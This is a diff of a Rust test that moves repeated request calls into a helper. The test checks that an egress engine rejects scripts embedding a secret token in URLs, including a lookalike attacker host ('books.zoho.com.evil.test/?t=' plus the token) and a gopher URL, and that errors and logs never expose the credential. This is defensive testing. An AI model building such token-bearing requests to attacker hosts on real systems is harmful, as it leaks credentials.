@@ -129,36 +129,28 @@ async fn errors_and_logs_never_contain_the_credential() {
     );
     // A script that pastes the token into a URL or a header of its own.
     errors.push(
-        engine
-            .send(
-                OutboundRequest::get(format!(
-                    "https://books.zoho.com.evil.test/?t={SECRET_TOKEN}"
-                )),
-                Some(&credential),
-                &EgressContext::new(),
-            )
-            .await
-            .unwrap_err(),
+        error_of_get(
+            &engine,
+            format!("https://books.zoho.com.evil.test/?t={SECRET_TOKEN}"),
+            Some(&credential),
+        )
+        .await,
     );
     errors.push(
-        engine
-            .send(
-                OutboundRequest::get(format!("https://books zoho.com/{SECRET_TOKEN}")),
-                Some(&credential),
-                &EgressContext::new(),
-            )
-            .await
-            .unwrap_err(),
+        error_of_get(
+            &engine,
+            format!("https://books zoho.com/{SECRET_TOKEN}"),
+            Some(&credential),
+        )
+        .await,
     );
     errors.push(
-        engine
-            .send(
-                OutboundRequest::get(format!("gopher://books.zoho.com/{SECRET_TOKEN}")),
-                Some(&credential),
-                &EgressContext::new(),
-            )
-            .await
-            .unwrap_err(),
+        error_of_get(
+            &engine,
+            format!("gopher://books.zoho.com/{SECRET_TOKEN}"),
+            Some(&credential),
+        )
+        .await,
     );
     // A credential value a header cannot carry.
     let broken = CredentialAttachment::new(
